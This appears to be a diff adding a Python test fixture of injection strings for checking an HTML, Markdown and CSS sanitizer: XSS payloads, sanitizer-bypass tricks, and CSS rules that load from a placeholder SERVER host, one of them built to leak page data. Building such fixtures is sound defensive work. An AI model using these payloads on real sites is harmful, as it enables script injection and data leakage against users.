@@ -1,0 +1,125 @@
+"""Texts that would run or load something in a page that takes them for markup; SERVER stands for a server's address."""
+
+from __future__ import annotations
+
+TEXTS = {
+    "script": "<script>executed('t')</script>",
+    "image": "<img src=x onerror=executed('t')>",
+    "loaded image": "<img src='SERVER/t.png'>",
+    "svg": "<svg onload=executed('t')>",
+    "svg script": "<svg><script>executed('t')</script></svg>",
+    "end of text": "</text><script>executed('t')</script>",
+    "end of title": "</title><script>executed('t')</script>",
+    "end of desc": "</desc></g></svg><script>executed('t')</script>",
+    "end of style": "</style><script>executed('t')</script>",
+    "end of cdata": "]]><script>executed('t')</script>",
+    "end of comment": "--><script>executed('t')</script>",
+    "begin of comment": "<!--",
+    "begin of cdata": "<![CDATA[<script>executed('t')</script>",
+    "entity": "&lt;script&gt;executed('t')&lt;/script&gt;",
+    "double entity": "&amp;lt;img src=x onerror=executed('t')&amp;gt;",
+    "attribute": '" onmouseover="executed(\'t\')" x="',
+    "attribute and tag": "\"><img src=x onerror=executed('t')>",
+    "single quotes": "' onmouseover='executed(1)' x='",
+    "back quotes": "` onmouseover=`executed(1)`",
+    "link": "<a href=\"javascript:executed('t')\">a</a>",
+    "foreign object": "<foreignObject><iframe srcdoc=\"<script>parent.executed('t')</script>\"></foreignObject>",
+    "use": "<use href=\"data:image/svg+xml,<svg id='x' onload='executed(1)'/>#x\"/>",
+    "animate": "<a><animate attributeName=href values=\"javascript:executed('t')\"/><text>a</text></a>",
+    "mutation": (
+        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=executed(1)&gt;'>"
+    ),
+    "noscript": "<noscript><p title=\"</noscript><img src=x onerror=executed('t')>\">",
+    "template": "<template><s><template><s><img src=x onerror=executed('t')>@shadow</s></template></s></template>",
+    "base": "<base href='SERVER/'>",
+    "refresh": '<meta http-equiv=refresh content="0;url=SERVER/t">',
+    "url": "url(SERVER/t.png)",
+    "url of a script": "javascript:executed('t')",
+    "data url": "data:text/html,<script>executed('t')</script>",
+    "expression": "'+executed('t')+'",
+    "expression of vega": "datum.a + executed('t')",
+    "signal": "signal: executed('t')",
+    "template of vega": "{{executed('t')}} ${executed('t')} #{executed('t')}",
+    "bracket": "a[executed('t')].b\\'];executed('t');//",
+    "line separators": "a\u2028executed('t')\u2029\r\n<script>executed('t')</script>",
+    "null byte": "<scr\0ipt>executed('t')</scr\0ipt>\x0b\x1b",
+    "half a character": "\ud83d<script>executed('t')</script>",
+    "right to left": "\u202e<script>executed('t')</script>",
+    "utf-7": "+ADw-script+AD4-executed('t')+ADw-/script+AD4-",
+    "long": "<script>executed('t')</script>" * 300,
+}
+MARKDOWN = {
+    "link": "[a](javascript:executed('m'))",
+    "link in brackets": "[a](<javascript:executed('m')>)",
+    "link with entities": "[a](&#106;avascript:executed('m'))",
+    "link with a tab": "[a](java&Tab;script:executed('m'))",
+    "link with white space": "[a](\x01javascript:executed('m'))",
+    "link of data": "[a](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuZXhlY3V0ZWQoJ20nKTwvc2NyaXB0Pg==)",
+    "link of an old kind": "[a](vbscript:executed('m'))",
+    "reference": "[a][b]\n\n[b]: javascript:executed('m')",
+    "angle brackets": "<javascript:executed('m')>",
+    "title": '[a](https://example.com "b" onmouseover="executed(\'m\')")',
+    "image": "![a](SERVER/m.png)",
+    "image of a script": "![a](javascript:executed('m'))",
+    "image with an end": "![a\" onerror=\"executed('m')](x)",
+    "code": "```html\" onmouseover=\"executed('m')\n<script>executed('m')</script>\n```",
+    "html": "<div onmouseover=\"executed('m')\"><script>executed('m')</script><img src=x onerror=executed('m')>",
+    "html in a line": "a <img src=x onerror=executed('m')> b",
+    "iframe": "<iframe src=\"javascript:parent.executed('m')\"></iframe>",
+    "form": "<form action=\"javascript:executed('m')\"><button>a</button></form>",
+    "style": "<style>@import 'SERVER/m.css';</style><p style=\"background:url(SERVER/m.png)\">a</p>",
+    "table": "| a |\n|---|\n| <img src=x onerror=executed('m')> |",
+    "heading": "# a {#b onmouseover=executed('m')}",
+    "comment": "<!-- > <script>executed('m')</script> -->",
+}
+STYLES = {
+    "import": "@import 'SERVER/s.css';",
+    "import with an escape": "@\\69mport 'SERVER/s.css';",
+    "background": "body{background:url(SERVER/s.png)}",
+    "background in quotes": "body{background:url('SERVER/s.png')}",
+    "background with an escape": "body{background:\\75rl(SERVER/s.png)}",
+    "background in large letters": "body{BACKGROUND:URL(SERVER/s.png)}",
+    "background after a comment": "body{background:u/**/rl(SERVER/s.png);background/**/:url(SERVER/s.png)}",
+    "image set": "body{background:image-set('SERVER/s.png' 1x)}",
+    "image set of an old kind": "body{background:-webkit-image-set(url(SERVER/s.png) 1x)}",
+    "cross fade": "body{background:-webkit-cross-fade(url(SERVER/s.png), url(SERVER/s.png), 50%)}",
+    "variable": "body{--a:url(SERVER/s.png);background:var(--a)}",
+    "list": "li,p,h1{display:list-item;list-style-image:url(SERVER/s.png)}",
+    "content": "h1::before{content:url(SERVER/s.png)}",
+    "cursor": "*{cursor:url(SERVER/s.cur),auto}",
+    "font": "@font-face{font-family:a;src:url(SERVER/s.woff)} body{font-family:a}",
+    "name space": "@namespace url(SERVER/s);",
+    "property": (
+        "@property --a{syntax:'<image>';inherits:false;initial-value:url(SERVER/s.png)} body{background:var(--a)}"
+    ),
+    "layer": "@layer a{body{background:url(SERVER/s.png)}}",
+    "media": "@media all{body{background:url(SERVER/s.png)}}",
+    "supports": (
+        "@supports (color:red){body{background:url(SERVER/s.png)}} @supports (background:url(SERVER/s.png)){a{b:c}}"
+    ),
+    "nested": "body{color:red;& .x, &{background:url(SERVER/s.png)}}",
+    "end of style": "</style><script>executed('s')</script>",
+    "end of style in a text": "a{content:'</style><script>executed(1)</script>'}",
+    "end of style in a selector": "a[b='</style><img src=x onerror=executed(1)>']{color:red}",
+    "comment of html": "<!-- </style><script>executed('s')</script> -->",
+    "unended text": "a{content:'x\n} body{background:url(SERVER/s.png)}",
+    "unended comment": "a{color:red} /* </style><script>executed('s')</script>",
+    "behaviour": "body{behavior:url(SERVER/s.htc);-moz-binding:url(SERVER/s.xml#a)}",
+    "expression": "body{width:expression(executed('s'))}",
+    "script": "body{background:url(\"javascript:executed('s')\")}",
+    "attribute selector": "a[href^='http']{background:url(SERVER/s?leak)}",
+    "shape": (
+        "body{shape-outside:url(SERVER/s.png);mask:url(SERVER/s.svg#a);clip-path:url(SERVER/s.svg#a);"
+        "filter:url(SERVER/s.svg#a)}"
+    ),
+    "border": "body{border:9px solid;border-image:url(SERVER/s.png) 1}",
+    "src": "body{background:src('SERVER/s.png')}",
+    "element": "body{background:element(#a);offset-path:url(SERVER/s.svg#a)}",
+    "braces": "a{b:{c}d:url(SERVER/s.png)}} body{background:url(SERVER/s.png)}",
+    "control characters": "body{background:\x01url(SERVER/s.png);back\x01ground:url(SERVER/s.png)}",
+}
+
+
+def aimed(text: str, address: str) -> str:
+    """Return a text that loads from this address."""
+    return text.replace("SERVER", address)
